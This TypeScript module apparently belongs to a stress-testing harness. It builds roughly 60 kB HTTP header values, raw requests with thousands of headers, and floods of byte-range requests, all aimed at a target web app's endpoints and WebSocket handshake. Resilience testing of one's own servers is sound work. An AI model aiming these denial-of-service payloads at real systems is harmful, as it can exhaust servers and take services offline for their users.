/** The longest headers, and thousands of them. */
import type { Attack } from "../attack.js";
import { head, many } from "../payloads.js";
import type { Target } from "../target.js";

/** Nearly all that Node takes of one request's head, in bytes. */
const LONG = 60_000;
const fill = (pattern: string): string => pattern.repeat(Math.floor(LONG / pattern.length));
const base64 = (text: string): string => Buffer.from(text).toString("base64");

/** Values that have cost somebody's parser more than its length. */
export const VALUES: Readonly<Record<string, readonly string[]>> = {
  accept: [fill("a/b,"), fill("*/*;q=0.1,"), fill("a/b;c=d;"), fill(","), fill(" "), `a/b;${fill('x="')}`],
  "accept-encoding": [fill("gzip,"), fill("a;q=0.1,"), fill(";"), fill(", ,")],
  "accept-language": [fill("de,"), fill("de-DE;q=0.5,")],
  authorization: [
    `Basic ${fill("YTph")}`,
    `Basic ${base64("a".repeat(40_000))}`,
    `Basic ${base64(`${"a".repeat(20_000)}:${"b".repeat(20_000)}`)}`,
    fill("Basic "),
    `basic${fill(" ")}`,
    `Bearer ${fill("a")}`,
  ],
  cookie: [
    fill("a=b; "),
    fill("="),
    fill("a=%; "),
    `user_name=s%3A${fill("a")}`,
    fill('a="b\\"'),
    fill("user_name=j:{};"),
  ],
  "if-none-match": [fill('"a",'), fill('W/"a", '), fill(","), fill('"')],
  "if-modified-since": [fill("1 "), fill("Mon, ")],
  "x-forwarded-for": [fill("1.2.3.4,"), fill(","), fill("a")],
  "x-forwarded-host": [fill("a.b,")],
  "x-forwarded-proto": [fill("https,")],
  forwarded: [fill("for=1.2.3.4;")],
  host: [fill("a."), "a".repeat(LONG), fill("[:")],
  origin: [`http://${fill("a.")}`, fill("null ")],
  referer: [`http://${fill("a/")}`],
  range: [
    `bytes=${fill("0-0,")}`,
    `bytes=${fill("-1,")}`,
    `bytes=${fill("0-,")}`,
    fill("bytes="),
    "bytes=0-99999999999999999999",
  ],
  "if-range": [fill('"a"')],
  "content-type": [
    fill("a/b;"),
    `multipart/form-data;${fill("a=b;")}`,
    `multipart/form-data; boundary=${fill("-")}`,
    `application/json;${fill(' charset="')}`,
    `application/x-www-form-urlencoded${fill(";")}`,
  ],
  "content-encoding": [fill("gzip,")],
  "x-csrf-token": [fill("a")],
  "x-http-method-override": [fill("PUT")],
  "x-request-id": [fill("a"), fill("a.")],
  traceparent: [fill("00-")],
  tracestate: [fill("a=b,")],
  "user-agent": [fill("Mozilla ")],
  expect: [fill("100-continue")],
  "sec-websocket-protocol": [fill("graphql-transport-ws,")],
  "sec-websocket-extensions": [fill("permessage-deflate;"), fill("a,")],
};

const PATHS = ["/posts.json", "/graphql?query={viewer{id}}", "/posts", "/tags.xml", "/docs"];

/** Each with each path, and with a body. */
const askWith = async (target: Target, name: string, value: string, turn: number): Promise<void> => {
  const path = turn % 6 === 5 ? target.facts.file : (PATHS[turn % 5] ?? "");
  await target.ask({ path, headers: { [name]: value }, from: turn % 8 });
  const isOfSocket = name.startsWith("sec-");
  const handshake = { connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13" };
  const key = { "sec-websocket-key": base64("0123456789abcdef") };
  if (isOfSocket) await target.ask({ path: "/graphql", headers: { ...handshake, ...key, [name]: value } });
  else if (name !== "content-encoding")
    await target.ask({
      method: "POST",
      path: "/posts.json?_method=GET",
      headers: { [name]: value },
      body: "{}",
      from: turn % 8,
    });
};

const pairs = Object.entries(VALUES).flatMap(([name, values]) => values.map((value) => [name, value] as const));

export const headers: readonly Attack[] = [
  {
    name: "row 14: an Accept of 60 kB",
    send: (target) => {
      const values = VALUES.accept ?? [];
      return target.flood(
        4,
        (turn) => {
          const accept = values[turn % values.length] ?? "";
          return target.ask({ path: turn % 2 ? "/posts" : "/graphql", headers: { accept } });
        },
        200,
      );
    },
  },
  {
    name: "every header at its longest",
    seconds: 6,
    send: (target) =>
      target.flood(
        4,
        (turn) => {
          const [name, value] = pairs[turn % pairs.length] ?? ["", ""];
          return askWith(target, name, value, turn);
        },
        3 * pairs.length,
      ),
  },
  {
    name: "2,000 headers, repeated headers, heads past what is taken",
    send: (target) => {
      const texts = [
        `GET /posts.json HTTP/1.1\r\nHost: board\r\n${many(2_000, (n) => `x-${n}: y\r\n`)}\r\n`,
        `GET /posts.json HTTP/1.1\r\nHost: board\r\n${many(3_000, () => "accept: a/b\r\n")}\r\n`,
        `GET /posts.json HTTP/1.1\r\nHost: board\r\n${many(3_000, () => "cookie: a=b\r\n")}\r\n`,
        `GET /posts.json HTTP/1.1\r\nHost: board\r\n${many(2_000, () => "x-forwarded-for: 1.2.3.4\r\n")}\r\n`,
        head("GET /posts.json", { x: "a".repeat(900_000) }),
        `GET /${"a".repeat(900_000)} HTTP/1.1\r\n`,
      ];
      return target.flood(
        8,
        async (turn) => {
          const wire = await target.connect({ from: turn % 8 });
          await wire.say(texts[turn % texts.length] ?? "");
          await Promise.race([wire.closed(), target.wait(200)]);
          wire.socket.destroy();
        },
        400,
      );
    },
  },
  {
    name: "thousands of ranges of a file",
    send: (target) => {
      const values = VALUES.range ?? [];
      return target.flood(
        8,
        (turn) =>
          target.ask({
            path: target.facts.file,
            headers: { range: values[turn % values.length] ?? "" },
            from: turn % 4,
          }),
        2_000,
      );
    },
  },
];
